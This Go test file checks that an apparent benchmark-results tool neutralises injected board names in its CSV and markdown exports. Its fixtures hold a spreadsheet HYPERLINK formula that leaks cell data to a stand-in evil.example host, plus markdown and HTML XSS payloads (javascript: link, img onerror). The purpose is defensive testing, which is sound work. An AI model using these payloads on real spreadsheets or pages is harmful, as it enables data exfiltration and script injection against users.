package hostiletest_test

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"boardbench/internal/testutil/shareddata"
)

// TestExportInjectionFromLogs imports logs whose board name (in the first
// line and in the published row) is a spreadsheet formula, or markdown
// with a javascript: link, a remote image and HTML, and exports them:
// `results export --format csv` has no text cell starting with =, +, -,
// @, tab or CR; `report --markdown-row`, `results export --format
// markdown` and `compare --markdown` hold no live link, image or tag.
func TestExportInjectionFromLogs(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "results.db")
	log := shareddata.ReadLog(t, "3FlD.txt")
	const board = "Raspberry Pi 4 Model B Rev 1.1"
	if !strings.HasPrefix(log, "sbc-bench v0.8.4 "+board+" (") || !strings.Contains(log, "\n| "+board+" | ") {
		t.Fatal("the log is not the one expected")
	}
	names := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Pi")`,
		"[Pi](javascript:alert(1)) ![x](http://evil.example/p.png) <img src=x onerror=alert(1)> <http://evil.example>",
	}
	var files []string
	for i, n := range names {
		text := strings.Replace(log, "sbc-bench v0.8.4 "+board+" (", "sbc-bench v0.8.4 "+n+" (", 1)
		text = strings.Replace(text, "\n| "+board+" | ", "\n| "+n+" | ", 1)
		p := filepath.Join(dir, string(rune('a'+i))+".txt")
		must(t, os.WriteFile(p, []byte(text), 0o644))
		files = append(files, p)
	}
	out, stderr, code := runWithin(t, slowDeadline, append([]string{"import", "--json", "--store", db}, files...)...)
	if code != 0 {
		t.Fatalf("import: exit %d: %s", code, stderr)
	}
	var ids []string
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var o struct{ ID string }
		if err := json.Unmarshal([]byte(l), &o); err != nil || o.ID == "" {
			t.Fatalf("import line %q: %v", l, err)
		}
		ids = append(ids, o.ID)
	}

	out, stderr, code = runWithin(t, slowDeadline, "results", "export", "--store", db, "--format", "csv", ids[0], ids[1])
	if code != 0 {
		t.Fatalf("export csv: exit %d: %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+@\t\r") || strings.HasPrefix(cell, "-") && !isNumber(cell) {
				t.Errorf("CSV cell %s starts with a formula trigger: %q", rows[0][i], cell)
			}
		}
	}

	result := filepath.Join(dir, "r.json")
	doc, _, code := runWithin(t, slowDeadline, "results", "show", "--json", "--store", db, ids[1])
	if code != 0 {
		t.Fatal("results show --json failed")
	}
	must(t, os.WriteFile(result, []byte(doc), 0o644))
	views := [][]string{
		{"report", "--markdown-row", result},
		{"results", "export", "--store", db, "--format", "markdown", ids[1]},
		{"compare", "--markdown", "--store", db, ids[0], ids[1]},
	}
	for _, args := range views {
		t.Run(strings.Join(args[:2], " "), func(t *testing.T) {
			out, stderr, code := runWithin(t, slowDeadline, args...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			for _, live := range []string{"](javascript", "](http", "<img", "<http"} {
				if strings.Contains(out, live) {
					t.Errorf("markdown holds %q:\n%s", live, out)
				}
			}
			if !strings.Contains(out, "javascript:alert(1)") {
				t.Errorf("the board's text is lost:\n%s", out)
			}
		})
	}
}

// isNumber reports whether s is a plain decimal number, as boardbench
// writes figures.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	if s == "" {
		return false
	}
	for _, c := range s {
		if (c < '0' || c > '9') && c != '.' && c != 'e' && c != '+' && c != '-' {
			return false
		}
	}
	return true
}
